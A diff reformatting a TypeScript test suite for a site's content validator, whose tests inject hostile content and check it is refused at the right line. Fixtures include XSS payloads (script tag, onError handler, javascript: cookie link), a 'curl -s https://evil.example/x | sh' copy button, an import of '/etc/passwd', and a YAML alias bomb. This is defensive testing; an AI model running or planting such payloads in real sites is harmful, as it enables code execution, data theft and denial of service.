@@ -2,7 +2,16 @@
 // a hang, or silence that puts U+FFFD, a script or a file of the build machine on the site.
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
-import { appendFileSync, cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import {
+  appendFileSync,
+  cpSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, test } from 'node:test';
@@ -33,7 +42,10 @@ const errorsOf = (dir: string, publicDir?: string) => loadContent(dir, dir, { pu
 const lineCount = (text: string) => text.split('\n').length;
 
 test('the real content and public folder pass', () => {
-  assert.deepEqual(loadContent(join(root, 'content'), root, { publicDir: join(root, 'public') }).errors.map(formatError), []);
+  assert.deepEqual(
+    loadContent(join(root, 'content'), root, { publicDir: join(root, 'public') }).errors.map(formatError),
+    [],
+  );
 });
 
 test('an MDX body that imports a file of the build machine is refused at its line', () => {
@@ -50,10 +62,16 @@ test('an MDX body that imports a file of the build machine is refused at its lin
 test('a script, an iframe, an event handler and a javascript: link in a body each get their line', () => {
   const dir = contentCopy();
   const before = readFileSync(join(dir, GLFT), 'utf8');
-  appendFileSync(join(dir, GLFT), '\n<script>alert(1)</script>\n\n<iframe src="/x"></iframe>\n\n<img src="/a.png" alt="" onError="alert(1)" />\n\nSee [this](javascript:alert(document.cookie)).\n');
+  appendFileSync(
+    join(dir, GLFT),
+    '\n<script>alert(1)</script>\n\n<iframe src="/x"></iframe>\n\n<img src="/a.png" alt="" onError="alert(1)" />\n\nSee [this](javascript:alert(document.cookie)).\n',
+  );
   const first = lineCount(before) + 1;
   const errors = errorsOf(dir);
-  assert.deepEqual(errors.map((e) => e.split(': error: ')[0]), [first, first + 2, first + 4, first + 6].map((l) => `${GLFT}:${l}`));
+  assert.deepEqual(
+    errors.map((e) => e.split(': error: ')[0]),
+    [first, first + 2, first + 4, first + 6].map((l) => `${GLFT}:${l}`),
+  );
   assert.match(errors[0]!, /`body` must not hold a <script> element/);
   assert.match(errors[1]!, /`body` must not hold a <iframe> element/);
   assert.match(errors[2]!, /`body` must not give <img> an event handler `onError`/);
@@ -70,8 +88,17 @@ test('bytes that are not UTF-8 are named at their line instead of becoming U+FFF
   assert.deepEqual(errorsOf(dir), [
     `${GLFT}:${line}: error: \`(encoding)\` is not valid UTF-8: byte 0xE9 at column 13 is not part of a UTF-8 character (was the file saved as Latin-1 or Windows-1252?); save it as UTF-8`,
   ]);
-  writeFileSync(join(dir, 'frames.yaml'), Buffer.concat([readFileSync(join(dir, 'frames.yaml')), Buffer.from([0xff, 0x0a])]));
-  assert.ok(errorsOf(dir).some((e) => e.startsWith(`frames.yaml:${lineCount(readFileSync(join(root, 'content/frames.yaml'), 'utf8'))}: error: \`(encoding)\``)));
+  writeFileSync(
+    join(dir, 'frames.yaml'),
+    Buffer.concat([readFileSync(join(dir, 'frames.yaml')), Buffer.from([0xff, 0x0a])]),
+  );
+  assert.ok(
+    errorsOf(dir).some((e) =>
+      e.startsWith(
+        `frames.yaml:${lineCount(readFileSync(join(root, 'content/frames.yaml'), 'utf8'))}: error: \`(encoding)\``,
+      ),
+    ),
+  );
 });
 
 test('firstInvalidByte finds the first bad byte and nothing in valid text', () => {
@@ -85,7 +112,9 @@ test('lone-CR line endings in a content file are named at their line (line numbe
   const dir = contentCopy();
   const lines = readFileSync(join(dir, 'reproduce.yaml'), 'utf8').split('\n');
   writeFileSync(join(dir, 'reproduce.yaml'), `${lines.slice(0, 2).join('\n')}\n${lines.slice(2).join('\r')}`);
-  assert.deepEqual(errorsOf(dir), ['reproduce.yaml:3: error: `(line endings)` has a line break that is a lone CR (old Mac line endings); save the file with LF (or CRLF) line endings']);
+  assert.deepEqual(errorsOf(dir), [
+    'reproduce.yaml:3: error: `(line endings)` has a line break that is a lone CR (old Mac line endings); save the file with LF (or CRLF) line endings',
+  ]);
   writeFileSync(join(dir, 'reproduce.yaml'), lines.join('\r\n'));
   assert.deepEqual(errorsOf(dir), [], 'CRLF is fine');
 });
@@ -93,18 +122,22 @@ test('lone-CR line endings in a content file are named at their line (line numbe
 test('data-* attributes the site script acts on are refused in a body, each at its line', () => {
   const dir = contentCopy();
   const before = readFileSync(join(dir, GLFT), 'utf8');
-  appendFileSync(join(dir, GLFT), [
-    '',
-    '<a href="https://evil.example/landing" data-moved-to="">more</a>',
-    '',
-    '<code data-copy="curl -s https://evil.example/x | sh">cargo build --release</code>',
-    '',
-    '<a href="https://evil.example/#spread_oracle-L43" data-copy-link>link</a>',
-    '',
-  ].join('\n'));
+  appendFileSync(
+    join(dir, GLFT),
+    [
+      '',
+      '<a href="https://evil.example/landing" data-moved-to="">more</a>',
+      '',
+      '<code data-copy="curl -s https://evil.example/x | sh">cargo build --release</code>',
+      '',
+      '<a href="https://evil.example/#spread_oracle-L43" data-copy-link>link</a>',
+      '',
+    ].join('\n'),
+  );
   const first = lineCount(before) + 1;
   const hooks = "data-* attributes are the site's script hooks, and the prose may carry only `data-pagefind-ignore`";
-  const prose = 'the Notes section is prose: Markdown and plain HTML, with no import, export, {expressions}, scripts or event handlers';
+  const prose =
+    'the Notes section is prose: Markdown and plain HTML, with no import, export, {expressions}, scripts or event handlers';
   assert.deepEqual(errorsOf(dir), [
     `${GLFT}:${first}: error: \`body\` must not give <a> a \`data-moved-to\` attribute; ${hooks}; ${prose}`,
     `${GLFT}:${first + 2}: error: \`body\` must not give <code> a \`data-copy\` attribute; ${hooks}; ${prose}`,
@@ -115,20 +148,28 @@ test('data-* attributes the site script acts on are refused in a body, each at i
 test('a folder named like a panic file is named, not a crash', () => {
   const dir = contentCopy();
   mkdirSync(join(dir, 'panics/x.mdx'));
-  assert.deepEqual(errorsOf(dir), ['panics/x.mdx: error: `(file)` is a folder; a panic path is one file, panics/<id>.mdx: rename or remove the folder']);
+  assert.deepEqual(errorsOf(dir), [
+    'panics/x.mdx: error: `(file)` is a folder; a panic path is one file, panics/<id>.mdx: rename or remove the folder',
+  ]);
 });
 
 test('a YAML alias bomb is refused at its first alias, quickly, without a crash', () => {
   const dir = contentCopy();
   let bomb = 'a: &a [x, x, x, x, x, x, x, x, x]\n';
-  for (let i = 0; i < 9; i++) bomb += `b${i}: &b${i} [${Array(9).fill(i === 0 ? '*a' : `*b${i - 1}`).join(', ')}]\n`;
+  for (let i = 0; i < 9; i++)
+    bomb += `b${i}: &b${i} [${Array(9)
+      .fill(i === 0 ? '*a' : `*b${i - 1}`)
+      .join(', ')}]\n`;
   const text = readFileSync(join(dir, GLFT), 'utf8');
   writeFileSync(join(dir, GLFT), text.replace(/^---\n/, `---\n${bomb}`));
   const t = performance.now();
   const errors = errorsOf(dir);
   assert.ok(performance.now() - t < 5_000);
   assert.equal(errors.length, 1, errors.join('\n'));
-  assert.match(errors[0]!, /^panics\/glft-kappa-gamma\.mdx:3: error: `\(YAML\)` uses aliases \(\*name\) that expand to too much data/);
+  assert.match(
+    errors[0]!,
+    /^panics\/glft-kappa-gamma\.mdx:3: error: `\(YAML\)` uses aliases \(\*name\) that expand to too much data/,
+  );
   // In a data file too.
   const dir2 = contentCopy();
   writeFileSync(join(dir2, 'reproduce.yaml'), `${bomb}x: [*b8]\n`);
@@ -160,7 +201,9 @@ test('a FIFO in the content folder is refused instead of blocking the build', ()
   const dir = contentCopy();
   const r = spawnSync('mkfifo', [join(dir, 'panics/pipe.mdx')]);
   assert.equal(r.status, 0, 'mkfifo is available');
-  assert.deepEqual(errorsOf(dir), ['panics/pipe.mdx: error: `(file)` is not a regular file (a FIFO, socket or device); ./ holds files and folders only']);
+  assert.deepEqual(errorsOf(dir), [
+    'panics/pipe.mdx: error: `(file)` is not a regular file (a FIFO, socket or device); ./ holds files and folders only',
+  ]);
 });
 
 test('a field past its limit names the limit and the size found, at its line', () => {
@@ -168,7 +211,9 @@ test('a field past its limit names the limit and the size found, at its line', (
   const text = readFileSync(join(dir, GLFT), 'utf8');
   const line = text.split('\n').findIndex((l) => l.startsWith('summary:')) + 1;
   writeFileSync(join(dir, GLFT), text.replace(/^summary: .*$/m, `summary: ${'a'.repeat(3_000)}`));
-  assert.deepEqual(errorsOf(dir), [`${GLFT}:${line}: error: \`summary\` must be at most ${LIMITS.short.toLocaleString('en-US')} characters, got 3,000`]);
+  assert.deepEqual(errorsOf(dir), [
+    `${GLFT}:${line}: error: \`summary\` must be at most ${LIMITS.short.toLocaleString('en-US')} characters, got 3,000`,
+  ]);
 });
 
 test('a file past the size limit (a 10 MB summary) is refused before it is parsed', () => {
@@ -180,7 +225,7 @@ test('a file past the size limit (a 10 MB summary) is refused before it is parse
   ]);
 });
 
-test('a generated record outgrows the hand-written files\' limit: source-check.json of thousands of panic paths is read', () => {
+test("a generated record outgrows the hand-written files' limit: source-check.json of thousands of panic paths is read", () => {
   const dir = contentCopy();
   // As `check-sources --record` writes it for a reference of thousands of panic paths (entries it checked, by name).
   const results: Record<string, { ok: number; failed: number }> = {};
@@ -190,7 +235,11 @@ test('a generated record outgrows the hand-written files\' limit: source-check.j
     results[name] = { ok: 3, failed: 0 };
     size += JSON.stringify({ [name]: results[name] }).length;
   }
-  const text = JSON.stringify({ commit: 'a'.repeat(40), checkedAt: '2026-01-01T00:00:00.000Z', ok: true, results }, null, 2);
+  const text = JSON.stringify(
+    { commit: 'a'.repeat(40), checkedAt: '2026-01-01T00:00:00.000Z', ok: true, results },
+    null,
+    2,
+  );
   assert.ok(text.length > MAX_FILE_BYTES * 2);
   writeFileSync(join(dir, 'source-check.json'), text);
   assert.deepEqual(errorsOf(dir), []);
@@ -209,11 +258,19 @@ test('astro build stops on a hostile body and a Latin-1 byte with the same lines
   const dir = contentCopy();
   const text = readFileSync(join(dir, GLFT), 'utf8');
   writeFileSync(join(dir, GLFT), `${text}\nimport secret from '/etc/passwd?raw'\n`);
-  writeFileSync(join(dir, 'reproduce.yaml'), Buffer.concat([readFileSync(join(dir, 'reproduce.yaml')), Buffer.from('# caf\xe9\n', 'latin1')]));
+  writeFileSync(
+    join(dir, 'reproduce.yaml'),
+    Buffer.concat([readFileSync(join(dir, 'reproduce.yaml')), Buffer.from('# caf\xe9\n', 'latin1')]),
+  );
   const dist = join(dir, '..', 'dist');
   const r = astroBuild({ CONTENT_DIR: dir, DIST_DIR: dist });
   assert.equal(r.status, 1, r.stdout + r.stderr);
-  assert.match(r.stderr, new RegExp(`glft-kappa-gamma\\.mdx:${lineCount(text) + 1}: error: \`body\` must not import modules \\(import secret from '/etc/passwd\\?raw'\\)`));
+  assert.match(
+    r.stderr,
+    new RegExp(
+      `glft-kappa-gamma\\.mdx:${lineCount(text) + 1}: error: \`body\` must not import modules \\(import secret from '/etc/passwd\\?raw'\\)`,
+    ),
+  );
   assert.match(r.stderr, /reproduce\.yaml:\d+: error: `\(encoding\)` is not valid UTF-8: byte 0xE9/);
   assert.match(r.stderr, /2 problems in the content; nothing was built\./);
   assert.doesNotMatch(r.stderr + r.stdout, /^\s+at /m, 'no stack trace');
@@ -224,5 +281,8 @@ test('astro build refuses a BASE_PATH of another host before anything is built',
   temps.push(join(dist, '..'));
   const r = astroBuild({ BASE_PATH: '//evil.example/', DIST_DIR: dist });
   assert.equal(r.status, 1, r.stdout + r.stderr);
-  assert.match(r.stdout + r.stderr, /environment: error: `BASE_PATH` must not hold "\/\/": a base starting with "\/\/" is another host/);
+  assert.match(
+    r.stdout + r.stderr,
+    /environment: error: `BASE_PATH` must not hold "\/\/": a base starting with "\/\/" is another host/,
+  );
 });
